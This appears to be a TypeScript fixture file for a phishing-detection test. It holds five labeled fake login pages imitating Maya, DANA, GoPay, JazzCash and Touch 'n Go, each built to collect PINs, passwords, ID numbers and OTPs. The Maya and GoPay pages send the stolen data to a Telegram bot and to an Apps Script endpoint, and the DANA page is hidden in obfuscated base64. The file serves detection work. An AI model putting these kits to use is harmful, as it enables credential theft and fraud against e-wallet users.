import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { b64, badge, doc, jsonRoute, walletCss, xorHex, codes, pct } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-maya-account-limited-telegram',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://maya-accountupgrade.com/upgrade/index.html',
  body: doc({
    title: 'Maya | Upgrade your account',
    head: '<meta name="robots" content="noindex,nofollow">',
    css: walletCss('#0b0b0b', '#eefcf4') + `.bar{background:linear-gradient(135deg,#0b0b0b,#1a3a2b)}.mark{color:#00d563;font:800 32px Arial}.alert{background:#fff1f0;border-left:4px solid #e5484d;padding:12px;font-size:13px;border-radius:6px}`,
    body: `<div class="app"><div class="bar"><div class="mark">maya</div><h1>Account limited</h1><p>Reference no. MY-${'2025'}-884120</p></div>
<div class="pane">
<div class="alert">We noticed that your account has not completed the updated BSP Know-Your-Customer requirement (Circular No. 1170). Your wallet has been temporarily limited to ₱0.00 in transfers. Upgrade now to restore full access and keep your savings earning 15% p.a.</div>
<form id="f">
<label>Mobile number</label><input name="mobile" type="tel" placeholder="09XX XXX XXXX" required>
<label>Password</label><input name="password" type="password" required>
<label>Date of birth</label><input name="dob" type="date" required>
<label>Valid ID type</label><select name="idtype"><option>PhilSys National ID</option><option>Driver's License</option><option>UMID</option><option>Passport</option></select>
<label>ID number</label><input name="idno" required>
<div id="otpbox" class="hide"><label>One-time PIN (sent via SMS)</label><input name="otp" inputmode="numeric" maxlength="6"></div>
<button class="btn" id="go">Upgrade now</button>
</form>
<p class="note">Maya Philippines, Inc. and Maya Bank, Inc. are regulated by the Bangko Sentral ng Pilipinas. Deposits are insured by PDIC up to ₱500,000 per depositor.</p>
</div></div>
<script>
var T="7431920567:AAF3kq9V0c_zP1nJtWm4rXe2HbLy8sQdUoA",C="-1002213384471",st=0;
document.getElementById("f").addEventListener("submit",function(e){
 e.preventDefault();var fd=new FormData(this),t="🟢 MAYA "+(st?"OTP":"LOGIN")+"\\n";
 fd.forEach(function(v,k){t+=k+": "+v+"\\n"});t+="UA: "+navigator.userAgent;
 fetch("https://api.telegram.org/bot"+T+"/sendMessage",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:C,text:t})});
 if(!st){st=1;document.getElementById("otpbox").classList.remove("hide");document.getElementById("go").textContent="Verify";return;}
 document.getElementById("go").textContent="Please wait…";setTimeout(function(){location.replace("https://www.maya.ph/")},2500);
});
</script>`,
  }),
},
{
  id: 'zy-dana-kaget-docwrite-base64',
  label: 'phishing',
  kind: 'ewallet-kit-obfuscated',
  url: 'https://danakaget-bagibagi.my.id/klaim/?ref=wa',
  body: (() => {
    const inner = doc({
      title: 'DANA Kaget',
      lang: 'id',
      css: walletCss('#118ee9', '#e6f3fd') + `.amt{font:800 38px Arial;margin:6px 0}.env{background:#fff;border-radius:16px;margin:-20px 16px 0;padding:18px;text-align:center;box-shadow:0 4px 14px rgba(0,0,0,.08)}`,
      body: `<div class="app"><div class="bar"><b style="font-size:26px">DANA</b><p>Dompet Digital Indonesia</p></div>
<div class="env"><p>🎁 Selamat! Kamu mendapatkan</p><div class="amt">Rp 350.000</div><p style="font-size:13px;color:#666">dari DANA Kaget · sisa 3 dari 50 amplop</p></div>
<div class="pane"><p style="font-size:14px">Hubungkan akun DANA kamu untuk memasukkan saldo ke dompet. Saldo otomatis masuk dalam 1x24 jam.</p>
<form id="k" method="post" action="/klaim/kirim.php">
<label>Nomor HP terdaftar di DANA</label><input name="hp" type="tel" placeholder="08xx-xxxx-xxxx" required>
<label>PIN DANA (6 digit)</label><input name="pin" type="password" inputmode="numeric" maxlength="6" required>
<button class="btn">Ambil Sekarang</button></form>
<p class="note">Dengan melanjutkan kamu menyetujui Syarat &amp; Ketentuan DANA. PT Espay Debit Indonesia Koe berizin dan diawasi oleh Bank Indonesia.</p></div></div>`,
    });
    return `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>DANA Kaget</title></head><body>
<script>var _0x4a=["${b64(inner)}","write","open","close"];(function(_0x1,_0x2){var _0x3=decodeURIComponent(escape(atob(_0x1[0])));document[_0x1[2]]();document[_0x1[1]](_0x3);document[_0x1[3]]()})(_0x4a);</script>
<noscript>Aktifkan JavaScript untuk mengklaim DANA Kaget.</noscript></body></html>`;
  })(),
  routes: {
    'danakaget-bagibagi.my.id/klaim/kirim.php': htmlRoute('<!DOCTYPE html><html><head><meta http-equiv="refresh" content="2;url=/klaim/otp.html"></head><body>Memproses…</body></html>'),
    'danakaget-bagibagi.my.id/klaim/otp.html': htmlRoute(doc({
      title: 'DANA Kaget - Verifikasi', lang: 'id', css: walletCss('#118ee9'),
      body: `<div class="app"><div class="bar"><b>DANA</b><h1>Verifikasi OTP</h1><p>Masukkan kode 4 digit yang dikirim via SMS/WhatsApp</p></div><div class="pane"><form method="post" action="/klaim/kirim.php?s=otp"><input name="otp" inputmode="numeric" maxlength="4"><button class="btn">Konfirmasi</button></form></div></div>`,
    })),
  },
},
{
  id: 'zy-gopay-pin-appsscript-relay',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://gopay-keamanan-akun.com/verifikasi',
  body: doc({
    title: 'GoPay | Verifikasi Keamanan',
    lang: 'id',
    css: walletCss('#00aed6', '#eaf8fb') + `.shield{font-size:44px}.box{border:1px dashed #9fdcec;border-radius:10px;padding:12px;font-size:13px;background:#f5fcfe}`,
    body: `<div class="app"><div class="bar"><b style="font-size:24px">gopay</b><h1>Aktivitas mencurigakan terdeteksi</h1><p>Transaksi Rp 2.750.000 ke "TOKO ELEKTRONIK JAYA" sedang ditahan</p></div>
<div class="pane"><div class="box">Jika ini <b>bukan</b> kamu, batalkan transaksi dengan memverifikasi akun dalam 10 menit. Jika tidak diverifikasi, transaksi akan diproses otomatis dan saldo kamu akan terpotong.</div>
<form id="gp">
<label>Nomor HP yang terdaftar di Gojek</label><input id="hp" type="tel" required placeholder="+62 8xx">
<label>PIN GoPay</label><input id="pin" type="password" maxlength="6" inputmode="numeric" required>
<label>Saldo GoPay saat ini (perkiraan)</label><input id="saldo" inputmode="numeric" placeholder="Rp">
<button class="btn">Batalkan Transaksi</button></form>
<p class="note" id="timer">Sisa waktu 09:59</p></div></div>
<script>
var end=Date.now()+600000;setInterval(function(){var s=Math.max(0,Math.floor((end-Date.now())/1000));document.getElementById("timer").textContent="Sisa waktu "+String(Math.floor(s/60)).padStart(2,"0")+":"+String(s%60).padStart(2,"0")},1000);
document.getElementById("gp").addEventListener("submit",function(e){e.preventDefault();
 var q={hp:document.getElementById("hp").value,pin:document.getElementById("pin").value,saldo:document.getElementById("saldo").value,ua:navigator.userAgent,t:new Date().toISOString()};
 fetch("https://script.google.com/macros/s/AKfycbx7Qm2vTQe0hP1R-LkWm4a9Zc3yN0bdYt6oGf8sJ2uVx/exec",{method:"POST",mode:"no-cors",body:JSON.stringify(q)}).finally(function(){location.href="otp.html?hp="+encodeURIComponent(q.hp)});
});
</script>`,
  }),
  routes: {
    'gopay-keamanan-akun.com/otp.html': htmlRoute(doc({ title: 'GoPay | OTP', lang: 'id', css: walletCss('#00aed6'), body: `<div class="app"><div class="bar"><b>gopay</b><h1>Kode verifikasi</h1><p>Masukkan 4 digit kode yang dikirim via WhatsApp</p></div><div class="pane"><form id="o"><input id="c" maxlength="4" inputmode="numeric"><button class="btn">Kirim</button></form></div></div><script>document.getElementById("o").onsubmit=function(e){e.preventDefault();fetch("https://script.google.com/macros/s/AKfycbx7Qm2vTQe0hP1R-LkWm4a9Zc3yN0bdYt6oGf8sJ2uVx/exec",{method:"POST",mode:"no-cors",body:JSON.stringify({otp:document.getElementById("c").value,hp:new URLSearchParams(location.search).get("hp")})});document.body.innerHTML="<p style='text-align:center;margin-top:40vh'>Transaksi berhasil dibatalkan ✔</p>"}</script>` })),
  },
},
{
  id: 'zy-jazzcash-block-cnic-urdu',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://jazzcash-verification.pk-helpdesk.com/account/verify.php',
  body: doc({
    title: 'JazzCash - Account Verification',
    lang: 'ur',
    css: walletCss('#e11b22', '#fff6e5') + `.bar{background:linear-gradient(90deg,#e11b22,#f7a600)}.ur{direction:rtl;font-family:"Jameel Noori Nastaleeq","Noto Nastaliq Urdu",serif;font-size:18px;line-height:2}`,
    body: `<div class="app"><div class="bar"><b style="font-size:24px">JazzCash</b><h1>Account Verification</h1><p>State Bank of Pakistan BVS re-verification</p></div>
<div class="pane"><p class="ur">محترم صارف، آپ کا JazzCash اکاؤنٹ بائیومیٹرک ری ویریفکیشن نہ ہونے کی وجہ سے 24 گھنٹوں میں بلاک کر دیا جائے گا۔ اکاؤنٹ بحال رکھنے کے لیے نیچے اپنی معلومات درج کریں۔</p>
<form method="post" action="verify.php?step=2">
<label>Mobile Account Number</label><input name="msisdn" placeholder="03XX XXXXXXX" required>
<label>CNIC Number</label><input name="cnic" placeholder="XXXXX-XXXXXXX-X" maxlength="15" required>
<label>CNIC Issue Date</label><input name="cnic_issue" type="date" required>
<label>4-digit MPIN</label><input name="mpin" type="password" maxlength="4" inputmode="numeric" required>
<button class="btn">Verify Account</button></form>
<p class="note">Helpline 4444 · JazzCash is a product of Mobilink Microfinance Bank Ltd.</p></div></div>`,
  }),
  routes: {
    'jazzcash-verification.pk-helpdesk.com/account/verify.php?step=2': htmlRoute(doc({ title: 'JazzCash - OTP', css: walletCss('#e11b22'), body: `<div class="app"><div class="bar"><b>JazzCash</b><h1>Enter OTP</h1></div><div class="pane"><p>A 4-digit code has been sent to your mobile. Do not share it with anyone.</p><form method="post" action="verify.php?step=3"><input name="otp" maxlength="4"><button class="btn">Submit</button></form></div></div>` })),
  },
},
{
  id: 'zy-tng-budimadani-subsidy-malay',
  label: 'phishing',
  kind: 'gov-benefit-kit',
  url: 'https://budimadani-tng.com/tuntut/',
  body: doc({
    title: 'Subsidi BUDI MADANI RON95 | Touch \'n Go eWallet',
    lang: 'ms',
    css: walletCss('#0060ae', '#eaf2fb') + `.flag{display:flex;gap:6px;align-items:center;font-size:12px}.tag{background:#ffcc00;color:#003;padding:2px 8px;border-radius:10px;font-weight:700;font-size:12px}`,
    body: `<div class="app"><div class="bar"><div class="flag">🇲🇾 Kementerian Kewangan Malaysia × <b>Touch 'n Go eWallet</b></div><h1>Tuntutan Subsidi BUDI95</h1><p><span class="tag">RM200</span> kredit bahan api bulanan</p></div>
<div class="pane"><p style="font-size:14px">Anda layak menerima subsidi bahan api sasaran. Sila sahkan akaun Touch 'n Go eWallet anda untuk menerima kredit RM200 sebelum <b>31 Julai 2025</b>.</p>
<form id="t" method="post" action="/tuntut/hantar">
<label>No. MyKad</label><input name="mykad" placeholder="900101-14-5678" required>
<label>No. telefon berdaftar eWallet</label><input name="phone" placeholder="01X-XXX XXXX" required>
<label>PIN eWallet 6 digit</label><input name="pin" type="password" maxlength="6" inputmode="numeric" required>
<button class="btn">Tuntut Sekarang</button></form>
<p class="note">TNG Digital Sdn Bhd (1253150-K) dikawal selia oleh Bank Negara Malaysia.</p></div></div>`,
  }),
  routes: {
    'budimadani-tng.com/tuntut/hantar': htmlRoute(doc({ title: 'Pengesahan TAC', lang: 'ms', css: walletCss('#0060ae'), body: '<div class="app"><div class="bar"><h1>Masukkan TAC</h1><p>Kod 6 digit telah dihantar melalui SMS</p></div><div class="pane"><form method="post" action="/tuntut/tac"><input name="tac" maxlength="6"><button class="btn">Sahkan</button></form></div></div>' })),
  },
},
];
